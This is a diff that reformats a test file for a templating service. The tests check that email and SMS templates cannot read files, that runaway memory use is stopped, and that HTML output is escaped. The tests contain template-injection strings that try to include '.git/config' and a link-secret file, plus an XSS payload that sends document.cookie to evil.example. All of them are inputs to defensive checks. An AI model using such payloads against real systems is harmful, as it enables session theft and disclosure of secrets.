@@ -15,7 +15,8 @@ afterAll(() => h?.stop());
 
 const email = (html: string, subject = 'Hello'): Step => ({ id: 'mail', type: 'email', subject, html }) as Step;
 const context = { contact: { firstName: '<b>Ada</b>' }, event: { name: 'X', properties: {} } };
-const flowWith = (step: Record<string, unknown>): FlowInput => ({ name: 'Templates', status: 'live', trigger: { event: 'Signed Up' }, steps: [step] }) as unknown as FlowInput;
+const flowWith = (step: Record<string, unknown>): FlowInput =>
+  ({ name: 'Templates', status: 'live', trigger: { event: 'Signed Up' }, steps: [step] }) as unknown as FlowInput;
 
 describe('no file system', () => {
   test.each([
@@ -24,15 +25,24 @@ describe('no file system', () => {
     ["{% include '.git/config' %}"],
     ["{% layout '.data/link-secret' %}<p>x</p>"],
   ])('%s is refused when the flow is saved, with the path', async (html) => {
-    const res = await h.http('put', '/v1/flows/reads-files').send(flowWith({ id: 'mail', type: 'email', subject: 'x', html }));
+    const res = await h
+      .http('put', '/v1/flows/reads-files')
+      .send(flowWith({ id: 'mail', type: 'email', subject: 'x', html }));
     expect(res.status).toBe(400);
-    expect(res.body.error.issues).toEqual([expect.objectContaining({ path: ['steps', 0, 'html'], message: expect.stringMatching(/not available: templates cannot read files/) })]);
+    expect(res.body.error.issues).toEqual([
+      expect.objectContaining({
+        path: ['steps', 0, 'html'],
+        message: expect.stringMatching(/not available: templates cannot read files/),
+      }),
+    ]);
   });
 
   test('a stored template that includes a file (saved before the check) fails to render and reads nothing', async () => {
     await expect(renderFields(email("{% include 'package.json' %}"), context)).rejects.toThrow(/not available/);
     // Not even through the plain-text engine (subjects, SMS, webhooks).
-    await expect(renderFields({ id: 's', type: 'sms', body: "{% render 'package.json' %}" } as Step, context)).rejects.toThrow(/not available/);
+    await expect(
+      renderFields({ id: 's', type: 'sms', body: "{% render 'package.json' %}" } as Step, context),
+    ).rejects.toThrow(/not available/);
   });
 });
 
@@ -49,7 +59,8 @@ describe('bounded work', () => {
   });
 
   test('a template that allocates without end stops at the memory limit', async () => {
-    const doubling = "{% assign s = 'xxxxxxxxxx' %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s | size }}";
+    const doubling =
+      "{% assign s = 'xxxxxxxxxx' %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s | size }}";
     await expect(renderFields(email(doubling), context)).rejects.toThrow(/memory alloc limit exceeded/);
   });
 
@@ -69,7 +80,9 @@ describe('bounded work', () => {
   });
 
   test('a template longer than the parse limit is refused at save', async () => {
-    const res = await h.http('put', '/v1/flows/huge').send(flowWith({ id: 'mail', type: 'email', subject: 'x', html: 'x'.repeat(200_001) }));
+    const res = await h
+      .http('put', '/v1/flows/huge')
+      .send(flowWith({ id: 'mail', type: 'email', subject: 'x', html: 'x'.repeat(200_001) }));
     expect(res.status).toBe(400);
     expect(res.body.error.issues[0].path).toEqual(['steps', 0, 'html']);
   });
@@ -78,10 +91,15 @@ describe('bounded work', () => {
 describe('HTML escaped by default in html fields', () => {
   test('html escapes output, raw opts out, escape is not applied twice, plain-text fields are left alone', async () => {
     const rendered = await renderFields(
-      email('<p>Hi {{ contact.firstName }}</p>{{ contact.firstName | raw }}|{{ contact.firstName | escape }}|{{ contact.firstName | upcase }}', 'Hi {{ contact.firstName }}'),
+      email(
+        '<p>Hi {{ contact.firstName }}</p>{{ contact.firstName | raw }}|{{ contact.firstName | escape }}|{{ contact.firstName | upcase }}',
+        'Hi {{ contact.firstName }}',
+      ),
       context,
     );
-    expect(rendered.html).toBe('<p>Hi &lt;b&gt;Ada&lt;/b&gt;</p><b>Ada</b>|&lt;b&gt;Ada&lt;/b&gt;|&lt;B&gt;ADA&lt;/B&gt;');
+    expect(rendered.html).toBe(
+      '<p>Hi &lt;b&gt;Ada&lt;/b&gt;</p><b>Ada</b>|&lt;b&gt;Ada&lt;/b&gt;|&lt;B&gt;ADA&lt;/B&gt;',
+    );
     expect(rendered.subject).toBe('Hi <b>Ada</b>');
   });
 
@@ -91,15 +109,28 @@ describe('HTML escaped by default in html fields', () => {
       status: 'live',
       trigger: { event: 'Signed Up' },
       smartSending: { enabled: false },
-      steps: [{ id: 'hello', type: 'email', subject: 'Welcome {{ contact.firstName }}', html: '<p>Welcome {{ contact.firstName }}</p>{{ event.properties.banner | raw }}' }],
+      steps: [
+        {
+          id: 'hello',
+          type: 'email',
+          subject: 'Welcome {{ contact.firstName }}',
+          html: '<p>Welcome {{ contact.firstName }}</p>{{ event.properties.banner | raw }}',
+        },
+      ],
     } as FlowInput);
     const payload = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">';
     await h.identify('mallory', { email: 'mallory@example.com', firstName: payload });
-    await h.track({ userId: 'mallory', event: 'Signed Up', properties: { banner: '<img src="https://shop.example/banner.png">' } });
+    await h.track({
+      userId: 'mallory',
+      event: 'Signed Up',
+      properties: { banner: '<img src="https://shop.example/banner.png">' },
+    });
     await h.result('welcome-xss', 'mallory');
     const sent = h.sendgrid.emails.find((e) => e.to === 'mallory@example.com');
     expect(sent).toBeDefined();
-    expect(sent!.html).toContain('<p>Welcome &lt;img src=x onerror=&#34;fetch(`//evil.example/`+document.cookie)&#34;&gt;</p>');
+    expect(sent!.html).toContain(
+      '<p>Welcome &lt;img src=x onerror=&#34;fetch(`//evil.example/`+document.cookie)&#34;&gt;</p>',
+    );
     expect(sent!.html).not.toContain('<img src=x');
     // What the author marked raw is HTML, as intended.
     expect(sent!.html).toContain('<img src="https://shop.example/banner.png">');
